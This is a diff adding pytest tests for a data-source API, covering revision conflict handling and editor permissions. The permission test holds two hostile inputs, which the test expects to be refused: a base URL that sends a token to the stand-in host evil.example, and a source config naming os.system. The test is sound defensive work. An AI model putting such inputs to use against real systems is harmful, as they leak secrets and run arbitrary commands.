@@ -4,6 +4,7 @@ import pytest
 
 from commands.ports import Sample, WorkRefused
 from domain.datasets import Column
+from domain.permissions import Role
 from infra.configuration.watch import Configuration
 from infra.project import Project
 from tests.api.access import Server
@@ -71,6 +72,48 @@ def test_the_same_source_again_is_no_second_one_and_another_of_its_name_is_refus
             assert 200 == (await admin.post("/api/sources", json=NEW)).status_code
         other = {**NEW, "options": {"directory": "data/other"}}
         assert 409 == (await admin.post("/api/sources", json=other)).status_code
+
+    shop.run(story)
+    assert 1 == len(of_sources(shop))
+
+
+def test_a_source_that_was_changed_since_it_was_looked_at_is_left_alone(shop):
+    async def story():
+        admin = await shop.logged_in()
+        await admin.post("/api/sources", json=NEW)
+        path = "/api/sources/orders"
+        seen = (await admin.get(f"{path}/details")).json()["revision"]
+        first = {"description": "mine", "revision": seen}
+        assert 200 == (await admin.put(path, json=first)).status_code
+        theirs = {"description": "theirs"}
+        assert 409 == (await admin.put(path, json={**theirs, "revision": seen})).status_code
+        stale = {"If-Match": f'"{seen}"'}
+        assert 409 == (await admin.put(path, json=theirs, headers=stale)).status_code
+        seen = (await admin.get(f"{path}/details")).json()["revision"]
+        fresh = {"If-Match": f'"{seen}"'}
+        both = {**theirs, "revision": "another"}
+        assert 422 == (await admin.put(path, json=both, headers=fresh)).status_code
+        assert 200 == (await admin.put(path, json=theirs, headers=fresh)).status_code
+        assert 422 == (await admin.post("/api/sources", json={**NEW, **first})).status_code
+
+    shop.run(story)
+    assert "theirs" in shop.file.read_text()
+
+
+def test_an_editor_adds_sources_but_gives_them_neither_code_nor_secrets(shop):
+    api = {"base_url": "https://evil.example/?k=${TOKEN}", "endpoints": [{"path": "a"}]}
+
+    async def story():
+        await shop.add("ed@example.org", "a tiger in the snow", Role.EDITOR)
+        editor = await shop.logged_in("ed@example.org")
+        assert 200 == (await editor.post("/api/sources", json=NEW)).status_code
+        for kind, options in (
+            ("rest_api", api),
+            ("dlt_native", {"source_module": "os", "source_function": "system"}),
+        ):
+            body = {"name": "more", "type": kind, "options": options}
+            answer = await editor.post("/api/sources", json=body)
+            assert (403, "config.manage") == (answer.status_code, answer.json()["permission"])
 
     shop.run(story)
     assert 1 == len(of_sources(shop))
